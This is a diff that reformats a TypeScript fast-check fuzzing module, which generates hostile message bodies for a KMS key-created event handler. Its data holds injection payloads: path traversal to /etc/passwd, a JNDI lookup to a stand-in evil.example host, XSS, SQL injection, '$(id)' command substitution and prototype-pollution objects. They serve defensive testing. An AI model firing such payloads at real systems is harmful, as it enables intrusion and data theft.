@@ -8,7 +8,17 @@ import { readFileSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import fc from 'fast-check';
 import { LOCAL_ACCOUNT } from '../local/local-account.ts';
-import { JEmbedded, JObject, JRaw, type JNode, clone, ensureAscii, fromValue, locations, serialize } from './json-tree.ts';
+import {
+  JEmbedded,
+  JObject,
+  JRaw,
+  type JNode,
+  clone,
+  ensureAscii,
+  fromValue,
+  locations,
+  serialize,
+} from './json-tree.ts';
 
 const EVENTS_DIR = join(import.meta.dirname, '..', 'events');
 
@@ -37,7 +47,8 @@ export const KEY_POOL = [
 ] as const;
 
 /** SQS delivers only these characters (#x9 | #xA | #xD | #x20–#xD7FF | #xE000–#xFFFD | astral). */
-export const SQS_INVALID_CHAR = /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\ud800-\udfff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
+export const SQS_INVALID_CHAR =
+  /[^\t\n\r\u0020-\ud7ff\ue000-\ufffd\ud800-\udfff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/;
 
 /**
  * Replaces what SQS could never deliver: a body must be a valid, non-empty SQS message to reach
@@ -71,23 +82,148 @@ export function sanitizeForFauxqs(text: string): string {
 }
 
 const HOSTILE_STRINGS: readonly string[] = [
-  '', ' ', '\t', '\n', '\r\n', '\u0000', '\u0007', '\u001b[31mred', '\u007f', '\u0085', '\u009b', '\u200b', '\u200e',
-  '\u202e', '\u2028', '\ufeff', '\ufffe', '\uffff', '\ud800', '\udfff', '\ud83d\ude00', 'é', 'ß', 'İ', 'ﬁ', 'Ａ', '𝓪', '٣',
-  '../', '../../../../etc/passwd', '..\\..\\', '%2e%2e%2f', '%252e%252e%252f', '..%2f', '%00', '%', '/', '//', '///',
-  'alias/', 'alias//x', 'alias/x/', 'default', '/default', 'x/default', 'x/DEFAULT', 'alias/default', 'Default',
-  'http://evil.example/', 'https://evil.example:443/x?y=1#z', '//evil.example', 'evil.example', 'user:pass@evil.example',
-  '127.0.0.1', '[::1]', 'localhost', 'kms.cn-north-4.myhuaweicloud.com.evil.example', 'cn-north-4.evil.example',
-  'cn-north-4/../../', 'cn-north-4?x=1', 'cn-north-4#', 'cn-north-4', 'ap-southeast-1', 'eu-west-101', 'CN-NORTH-4',
-  '{key_id}', '{env}', '${jndi:ldap://evil.example/a}', '{{7*7}}', '<script>alert(1)</script>', "' OR '1'='1",
-  '"; DROP TABLE keys; --', '`id`', '$(id)', '|', '\\', '"', "'", '{', '}', '[', ']', ':', '-', '_', 'a:b', 'a/b',
-  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__',
-  'null', 'undefined', 'NaN', 'true', '0', '-1', '1e999', '200', '400', '500', '1793693730000',
-  'kms.key.created', 'KMS', 'kms', 'Kms', 'createKey', 'CREATEKEY', 'createkey', 'cmk', 'CMK', 'deleteKey', 'Notification',
-  'AKIAIOSFODNN7EXAMPLE', 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'ak=FAKEFAKEFAKE', 'X-Auth-Token',
-  'payments-db', 'Payments DB (prod)', 'ops.bot@acme', 'AES_256', 'ENCRYPT_DECRYPT', 'SIGN_VERIFY', 'external', 'User',
-  '2026-11-03T13:15:30Z', '2026-02-30T00:00:00Z', '0000-01-01T00:00:00Z', '9999-12-31T23:59:59+14:00', '2026-11-03',
-  'x'.repeat(128), 'x'.repeat(129), 'x'.repeat(255), 'x'.repeat(256), 'a-'.repeat(128), '-'.repeat(300),
-  `alias/${'a'.repeat(250)}`, 'é'.repeat(300), '😀'.repeat(130),
+  '',
+  ' ',
+  '\t',
+  '\n',
+  '\r\n',
+  '\u0000',
+  '\u0007',
+  '\u001b[31mred',
+  '\u007f',
+  '\u0085',
+  '\u009b',
+  '\u200b',
+  '\u200e',
+  '\u202e',
+  '\u2028',
+  '\ufeff',
+  '\ufffe',
+  '\uffff',
+  '\ud800',
+  '\udfff',
+  '\ud83d\ude00',
+  'é',
+  'ß',
+  'İ',
+  'ﬁ',
+  'Ａ',
+  '𝓪',
+  '٣',
+  '../',
+  '../../../../etc/passwd',
+  '..\\..\\',
+  '%2e%2e%2f',
+  '%252e%252e%252f',
+  '..%2f',
+  '%00',
+  '%',
+  '/',
+  '//',
+  '///',
+  'alias/',
+  'alias//x',
+  'alias/x/',
+  'default',
+  '/default',
+  'x/default',
+  'x/DEFAULT',
+  'alias/default',
+  'Default',
+  'http://evil.example/',
+  'https://evil.example:443/x?y=1#z',
+  '//evil.example',
+  'evil.example',
+  'user:pass@evil.example',
+  '127.0.0.1',
+  '[::1]',
+  'localhost',
+  'kms.cn-north-4.myhuaweicloud.com.evil.example',
+  'cn-north-4.evil.example',
+  'cn-north-4/../../',
+  'cn-north-4?x=1',
+  'cn-north-4#',
+  'cn-north-4',
+  'ap-southeast-1',
+  'eu-west-101',
+  'CN-NORTH-4',
+  '{key_id}',
+  '{env}',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '<script>alert(1)</script>',
+  "' OR '1'='1",
+  '"; DROP TABLE keys; --',
+  '`id`',
+  '$(id)',
+  '|',
+  '\\',
+  '"',
+  "'",
+  '{',
+  '}',
+  '[',
+  ']',
+  ':',
+  '-',
+  '_',
+  'a:b',
+  'a/b',
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  '__defineGetter__',
+  'null',
+  'undefined',
+  'NaN',
+  'true',
+  '0',
+  '-1',
+  '1e999',
+  '200',
+  '400',
+  '500',
+  '1793693730000',
+  'kms.key.created',
+  'KMS',
+  'kms',
+  'Kms',
+  'createKey',
+  'CREATEKEY',
+  'createkey',
+  'cmk',
+  'CMK',
+  'deleteKey',
+  'Notification',
+  'AKIAIOSFODNN7EXAMPLE',
+  'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
+  'ak=FAKEFAKEFAKE',
+  'X-Auth-Token',
+  'payments-db',
+  'Payments DB (prod)',
+  'ops.bot@acme',
+  'AES_256',
+  'ENCRYPT_DECRYPT',
+  'SIGN_VERIFY',
+  'external',
+  'User',
+  '2026-11-03T13:15:30Z',
+  '2026-02-30T00:00:00Z',
+  '0000-01-01T00:00:00Z',
+  '9999-12-31T23:59:59+14:00',
+  '2026-11-03',
+  'x'.repeat(128),
+  'x'.repeat(129),
+  'x'.repeat(255),
+  'x'.repeat(256),
+  'a-'.repeat(128),
+  '-'.repeat(300),
+  `alias/${'a'.repeat(250)}`,
+  'é'.repeat(300),
+  '😀'.repeat(130),
 ];
 
 const HOMOGLYPHS: Readonly<Record<string, string>> = { a: 'а', e: 'е', o: 'о', c: 'с', '0': 'О', '1': 'l', '-': '‐' };
@@ -126,7 +262,9 @@ function nearMiss(value: string, how: number, n: number): string {
     case 13:
       return value.slice(0, at) + '%2F' + value.slice(at + 1);
     case 14:
-      return value.slice(0, at) + String.fromCharCode(0xff10 + (Number.parseInt(ch, 36) % 10 || 0)) + value.slice(at + 1);
+      return (
+        value.slice(0, at) + String.fromCharCode(0xff10 + (Number.parseInt(ch, 36) % 10 || 0)) + value.slice(at + 1)
+      );
     default:
       return `urn:kms:cn-north-4:${LOCAL_ACCOUNT.projectId}:cmk:${value}`;
   }
@@ -145,15 +283,17 @@ const anyProjectId = fc.oneof(
 
 /** Strings that almost pass as key ids, project ids or regions. */
 const nearMissId: fc.Arbitrary<string> = fc
-  .tuple(
-    fc.oneof(validKeyId, anyProjectId, fc.constantFrom('cn-north-4', 'ap-southeast-1')),
-    fc.nat(),
-    fc.nat(),
-  )
+  .tuple(fc.oneof(validKeyId, anyProjectId, fc.constantFrom('cn-north-4', 'ap-southeast-1')), fc.nat(), fc.nat())
   .map(([value, how, n]) => nearMiss(value, how, n));
 
 const controlChars = fc.string({
-  unit: fc.oneof(fc.integer({ min: 0, max: 0x1f }), fc.integer({ min: 0x7f, max: 0x9f }), fc.constantFrom(0xfffe, 0xffff, 0xd800, 0xdfff, 0x2028, 0x202e)).map((c) => String.fromCharCode(c)),
+  unit: fc
+    .oneof(
+      fc.integer({ min: 0, max: 0x1f }),
+      fc.integer({ min: 0x7f, max: 0x9f }),
+      fc.constantFrom(0xfffe, 0xffff, 0xd800, 0xdfff, 0x2028, 0x202e),
+    )
+    .map((c) => String.fromCharCode(c)),
   maxLength: 6,
 });
 
@@ -171,7 +311,11 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
   {
     weight: 3,
     arbitrary: fc
-      .tuple(fc.constantFrom(...HOSTILE_STRINGS), fc.constantFrom(...HOSTILE_STRINGS), fc.constantFrom(...HOSTILE_STRINGS))
+      .tuple(
+        fc.constantFrom(...HOSTILE_STRINGS),
+        fc.constantFrom(...HOSTILE_STRINGS),
+        fc.constantFrom(...HOSTILE_STRINGS),
+      )
       .map(([a, b, c]) => `${a}${b}${c}`),
   },
   { weight: 1, arbitrary: hugeString },
@@ -179,10 +323,41 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
 
 /** An object that tries to plant properties on Object.prototype when merged carelessly. */
 const pollution: fc.Arbitrary<JNode> = fc.constantFrom<JNode>(
-  new JObject([['__proto__', new JObject([['polluted', 'yes'], ['isAdmin', true], ['key_alias', 'pwned'], ['region', 'evil.example']])]]),
-  new JObject([['constructor', new JObject([['prototype', new JObject([['polluted', 'yes'], ['endpoint', 'https://evil.example']])]])]]),
-  new JObject([['__proto__', new JObject([['fuzzCanary', 1]])], ['__proto__', null]]),
-  new JObject([['prototype', new JObject([['isAdmin', true]])], ['toString', 'x'], ['hasOwnProperty', 1], ['valueOf', null]]),
+  new JObject([
+    [
+      '__proto__',
+      new JObject([
+        ['polluted', 'yes'],
+        ['isAdmin', true],
+        ['key_alias', 'pwned'],
+        ['region', 'evil.example'],
+      ]),
+    ],
+  ]),
+  new JObject([
+    [
+      'constructor',
+      new JObject([
+        [
+          'prototype',
+          new JObject([
+            ['polluted', 'yes'],
+            ['endpoint', 'https://evil.example'],
+          ]),
+        ],
+      ]),
+    ],
+  ]),
+  new JObject([
+    ['__proto__', new JObject([['fuzzCanary', 1]])],
+    ['__proto__', null],
+  ]),
+  new JObject([
+    ['prototype', new JObject([['isAdmin', true]])],
+    ['toString', 'x'],
+    ['hasOwnProperty', 1],
+    ['valueOf', null],
+  ]),
 );
 
 /** Deep nesting, written as raw text so that nothing recursive ever walks it on our side. */
@@ -196,24 +371,79 @@ const deepNesting: fc.Arbitrary<JNode> = fc
 
 export const hostileValue: fc.Arbitrary<JNode> = fc.oneof(
   { weight: 10, arbitrary: hostileString },
-  { weight: 2, arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -0, 1e308, 2 ** 53 + 2, 1793693730000, 200, 404)) },
+  {
+    weight: 2,
+    arbitrary: fc.oneof(fc.integer(), fc.double(), fc.constantFrom(0, -0, 1e308, 2 ** 53 + 2, 1793693730000, 200, 404)),
+  },
   { weight: 1, arbitrary: fc.constantFrom<JNode>(null, true, false, [], new JObject([])) },
-  { weight: 1, arbitrary: fc.constantFrom(new JRaw('1e999'), new JRaw('-1e999'), new JRaw('123456789012345678901234567890'), new JRaw('-0.0e-0')) },
+  {
+    weight: 1,
+    arbitrary: fc.constantFrom(
+      new JRaw('1e999'),
+      new JRaw('-1e999'),
+      new JRaw('123456789012345678901234567890'),
+      new JRaw('-0.0e-0'),
+    ),
+  },
   { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }).map(fromValue) },
   { weight: 1, arbitrary: deepNesting },
   { weight: 2, arbitrary: pollution },
 );
 
 const FIELD_NAMES = [
-  'type', 'key_id', 'project_id', 'region', 'region_id', 'domain_id', 'key_alias', 'key_spec', 'key_usage', 'origin',
-  'enterprise_project_id', 'key_description', 'created_by', 'created_at', 'trace_id', 'service_type', 'trace_name',
-  'resource_type', 'code', 'request', 'response', 'key_info', 'resource_id', 'resource_account_id', 'time', 'user',
-  'name', 'id', 'domain', 'cts', 'specversion', 'data', 'Type', 'Message', 'detail-type', 'detail',
+  'type',
+  'key_id',
+  'project_id',
+  'region',
+  'region_id',
+  'domain_id',
+  'key_alias',
+  'key_spec',
+  'key_usage',
+  'origin',
+  'enterprise_project_id',
+  'key_description',
+  'created_by',
+  'created_at',
+  'trace_id',
+  'service_type',
+  'trace_name',
+  'resource_type',
+  'code',
+  'request',
+  'response',
+  'key_info',
+  'resource_id',
+  'resource_account_id',
+  'time',
+  'user',
+  'name',
+  'id',
+  'domain',
+  'cts',
+  'specversion',
+  'data',
+  'Type',
+  'Message',
+  'detail-type',
+  'detail',
 ] as const;
 
 const keyName: fc.Arbitrary<string> = fc.oneof(
   { weight: 6, arbitrary: fc.constantFrom(...FIELD_NAMES) },
-  { weight: 3, arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', '', ' key_id', 'KEY_ID', 'key_id\u0000') },
+  {
+    weight: 3,
+    arbitrary: fc.constantFrom(
+      '__proto__',
+      'constructor',
+      'prototype',
+      'toString',
+      '',
+      ' key_id',
+      'KEY_ID',
+      'key_id\u0000',
+    ),
+  },
   { weight: 1, arbitrary: fc.string({ maxLength: 12 }) },
 );
 
@@ -242,8 +472,25 @@ interface Mutation {
 
 const mutation: fc.Arbitrary<Mutation> = fc.record({
   op: fc.constantFrom<Mutation['op']>(
-    'replace', 'replace', 'replace', 'delete', 'insert', 'duplicate-key', 'near-miss', 'near-miss', 'append',
-    'set-field', 'set-field', 'stringify', 'unembed', 'swap', 'wrap-sns', 'wrap-eventbridge', 'pollute', 'rekey', 'rekey',
+    'replace',
+    'replace',
+    'replace',
+    'delete',
+    'insert',
+    'duplicate-key',
+    'near-miss',
+    'near-miss',
+    'append',
+    'set-field',
+    'set-field',
+    'stringify',
+    'unembed',
+    'swap',
+    'wrap-sns',
+    'wrap-eventbridge',
+    'pollute',
+    'rekey',
+    'rekey',
   ),
   at: fc.nat(),
   other: fc.nat(),
@@ -277,7 +524,9 @@ function applyMutation(doc: { node: JNode }, mutation: Mutation): void {
       else if (typeof current === 'number') loc.set(String(current));
       return;
     case 'append':
-      loc.set(`${typeof current === 'string' ? current : serialize(current)}${typeof m.value === 'string' ? m.value : '/../x'}`);
+      loc.set(
+        `${typeof current === 'string' ? current : serialize(current)}${typeof m.value === 'string' ? m.value : '/../x'}`,
+      );
       return;
     case 'set-field':
       for (const l of locs) if (l.key === m.key) l.set(clone(m.value));
@@ -318,12 +567,20 @@ function applyMutation(doc: { node: JNode }, mutation: Mutation): void {
       const keyId = KEY_POOL[m.other % KEY_POOL.length]!;
       for (const l of locs) {
         const v = l.get();
-        if (l.key === 'key_id' || (l.key === 'resource_id' && typeof v === 'string')) l.set(l.key === 'key_id' ? keyId : String(v).replace(/[0-9a-z-]{36}$/, keyId));
+        if (l.key === 'key_id' || (l.key === 'resource_id' && typeof v === 'string'))
+          l.set(l.key === 'key_id' ? keyId : String(v).replace(/[0-9a-z-]{36}$/, keyId));
       }
       return;
     }
     case 'pollute':
-      if (current instanceof JObject) current.entries.unshift(['__proto__', new JObject([[m.key, m.value], ['polluted', 'yes']])]);
+      if (current instanceof JObject)
+        current.entries.unshift([
+          '__proto__',
+          new JObject([
+            [m.key, m.value],
+            ['polluted', 'yes'],
+          ]),
+        ]);
       return;
   }
 }
@@ -333,7 +590,10 @@ const textMutation = fc.record({
   op: fc.constantFrom('truncate', 'insert', 'delete', 'duplicate', 'replace-char', 'prefix'),
   at: fc.nat(),
   length: fc.integer({ min: 1, max: 64 }),
-  text: fc.oneof(fc.constantFrom('"', '{', '}', '[', ']', ',', ':', '\\', '\\u', '\\ud800', 'null', '\ufeff', ' ', '\n'), fc.string({ unit: 'binary', maxLength: 8 })),
+  text: fc.oneof(
+    fc.constantFrom('"', '{', '}', '[', ']', ',', ':', '\\', '\\u', '\\ud800', 'null', '\ufeff', ' ', '\n'),
+    fc.string({ unit: 'binary', maxLength: 8 }),
+  ),
 });
 
 function applyTextMutation(text: string, m: { op: string; at: number; length: number; text: string }): string {
@@ -367,7 +627,10 @@ export const mutatedSample: fc.Arbitrary<GeneratedBody> = fc
   .record({
     sample: fc.nat({ max: SAMPLES.length - 1 }),
     mutations: fc.array(mutation, { minLength: 0, maxLength: 6 }),
-    text: fc.oneof({ weight: 3, arbitrary: fc.constant([]) }, { weight: 1, arbitrary: fc.array(textMutation, { minLength: 1, maxLength: 3 }) }),
+    text: fc.oneof(
+      { weight: 3, arbitrary: fc.constant([]) },
+      { weight: 1, arbitrary: fc.array(textMutation, { minLength: 1, maxLength: 3 }) },
+    ),
     ascii: fc.boolean(),
   })
   .map(({ sample, mutations, text, ascii }) => {
@@ -382,7 +645,16 @@ export const mutatedSample: fc.Arbitrary<GeneratedBody> = fc
 const optional = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: undefined, freq: 3 });
 
 const realisticName = fc.oneof(
-  fc.constantFrom('payments-db', 'Payments DB (prod)', 'orders/api', 'reporting-etl', 'obs/default', 'default', 'a', 'x'.repeat(255)),
+  fc.constantFrom(
+    'payments-db',
+    'Payments DB (prod)',
+    'orders/api',
+    'reporting-etl',
+    'obs/default',
+    'default',
+    'a',
+    'x'.repeat(255),
+  ),
   fc.stringMatching(/^[a-zA-Z0-9:/_-]{1,40}$/),
 );
 
@@ -396,7 +668,10 @@ function entriesOf(record: Record<string, JNode | undefined>): JObject {
 /** The canonical `{"type": "kms.key.created", ...}` with mostly plausible, sometimes hostile fields. */
 const canonicalScratch: fc.Arbitrary<JNode> = fc
   .record({
-    type: fc.oneof({ weight: 9, arbitrary: fc.constant<JNode>('kms.key.created') }, { weight: 1, arbitrary: hostileValue }),
+    type: fc.oneof(
+      { weight: 9, arbitrary: fc.constant<JNode>('kms.key.created') },
+      { weight: 1, arbitrary: hostileValue },
+    ),
     key_id: fieldValue(validKeyId),
     project_id: fieldValue(anyProjectId),
     region: optional(fieldValue(fc.constantFrom('cn-north-4', 'ap-southeast-1', 'eu-west-101'))),
@@ -413,7 +688,11 @@ const canonicalScratch: fc.Arbitrary<JNode> = fc
         fc.record({ name: hostileValue, id: hostileValue, type: hostileValue }).map((r) => entriesOf(r) as JNode),
       ),
     ),
-    created_at: optional(fieldValue(fc.date({ min: new Date(0), max: new Date(4102444800000), noInvalidDate: true }).map((d) => d.toISOString()))),
+    created_at: optional(
+      fieldValue(
+        fc.date({ min: new Date(0), max: new Date(4102444800000), noInvalidDate: true }).map((d) => d.toISOString()),
+      ),
+    ),
     trace_id: optional(hostileValue),
   })
   .map((r) => entriesOf(r) as JNode);
@@ -438,7 +717,12 @@ const ctsScratch: fc.Arbitrary<JNode> = fc
   })
   .map((r) => {
     const request = entriesOf({ key_alias: r.key_alias, key_spec: r.key_spec });
-    const response = new JObject([['key_info', entriesOf({ key_id: r.key_id, region_id: r.region_id, domain_id: '3bab8e245e854f68af5967c00dd43127' })]]);
+    const response = new JObject([
+      [
+        'key_info',
+        entriesOf({ key_id: r.key_id, region_id: r.region_id, domain_id: '3bab8e245e854f68af5967c00dd43127' }),
+      ],
+    ]);
     const trace = entriesOf({
       service_type: r.service_type,
       trace_name: r.trace_name,
@@ -455,41 +739,77 @@ const ctsScratch: fc.Arbitrary<JNode> = fc
       case 'functiongraph':
         return new JObject([['cts', trace]]);
       case 'cloudevent':
-        return new JObject([['specversion', '1.0'], ['id', 'x'], ['data', trace]]);
+        return new JObject([
+          ['specversion', '1.0'],
+          ['id', 'x'],
+          ['data', trace],
+        ]);
       case 'sns':
-        return new JObject([['Type', 'Notification'], ['Message', new JEmbedded(trace)]]);
+        return new JObject([
+          ['Type', 'Notification'],
+          ['Message', new JEmbedded(trace)],
+        ]);
       case 'eventbridge':
-        return new JObject([['detail-type', 'x'], ['detail', new JObject([['specversion', '1.0'], ['data', trace]])]]);
+        return new JObject([
+          ['detail-type', 'x'],
+          [
+            'detail',
+            new JObject([
+              ['specversion', '1.0'],
+              ['data', trace],
+            ]),
+          ],
+        ]);
       default:
         return trace;
     }
   });
 
 /** Bodies built from nothing: random JSON and text, and the supported shapes with hostile fields. */
-export const scratchBody: fc.Arbitrary<GeneratedBody> = fc.oneof(
-  {
-    weight: 4,
-    arbitrary: fc.tuple(canonicalScratch, fc.boolean()).map(([t, ascii]) => ({
-      origin: 'scratch:canonical' as const,
-      body: ascii ? ensureAscii(serialize(t)) : serialize(t),
-    })),
-  },
-  {
-    weight: 3,
-    arbitrary: fc.tuple(ctsScratch, fc.boolean()).map(([t, ascii]) => ({
-      origin: 'scratch:cts' as const,
-      body: ascii ? ensureAscii(serialize(t)) : serialize(t),
-    })),
-  },
-  { weight: 1, arbitrary: fc.json({ maxDepth: 4 }).map((body) => ({ origin: 'scratch:json' as const, body })) },
-  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }).map((s) => ({ origin: 'scratch:text' as const, body: s })) },
-  {
-    weight: 1,
-    arbitrary: fc
-      .constantFrom('', ' ', 'null', '[]', '{}', '"x"', '0', '{"cts":', '{"cts":null}', '{"type":"kms.key.created"}', '\ufeff{}', '{"Type":"Notification","Message":"{\\"Type\\":\\"Notification\\",\\"Message\\":\\"{}\\"}"}')
-      .map((body) => ({ origin: 'scratch:literal' as const, body })),
-  },
-).map((b) => ({ ...b, body: sanitizeForSqs(b.body) }));
+export const scratchBody: fc.Arbitrary<GeneratedBody> = fc
+  .oneof(
+    {
+      weight: 4,
+      arbitrary: fc.tuple(canonicalScratch, fc.boolean()).map(([t, ascii]) => ({
+        origin: 'scratch:canonical' as const,
+        body: ascii ? ensureAscii(serialize(t)) : serialize(t),
+      })),
+    },
+    {
+      weight: 3,
+      arbitrary: fc.tuple(ctsScratch, fc.boolean()).map(([t, ascii]) => ({
+        origin: 'scratch:cts' as const,
+        body: ascii ? ensureAscii(serialize(t)) : serialize(t),
+      })),
+    },
+    { weight: 1, arbitrary: fc.json({ maxDepth: 4 }).map((body) => ({ origin: 'scratch:json' as const, body })) },
+    {
+      weight: 1,
+      arbitrary: fc
+        .string({ unit: 'binary', maxLength: 200 })
+        .map((s) => ({ origin: 'scratch:text' as const, body: s })),
+    },
+    {
+      weight: 1,
+      arbitrary: fc
+        .constantFrom(
+          '',
+          ' ',
+          'null',
+          '[]',
+          '{}',
+          '"x"',
+          '0',
+          '{"cts":',
+          '{"cts":null}',
+          '{"type":"kms.key.created"}',
+          '\ufeff{}',
+          '{"Type":"Notification","Message":"{\\"Type\\":\\"Notification\\",\\"Message\\":\\"{}\\"}"}',
+        )
+        .map((body) => ({ origin: 'scratch:literal' as const, body })),
+    },
+  )
+  .map((b) => ({ ...b, body: sanitizeForSqs(b.body) }));
 
 /** Every generated body: mutated samples, and bodies from scratch. */
 export const anyBody: fc.Arbitrary<GeneratedBody> = fc.oneof(
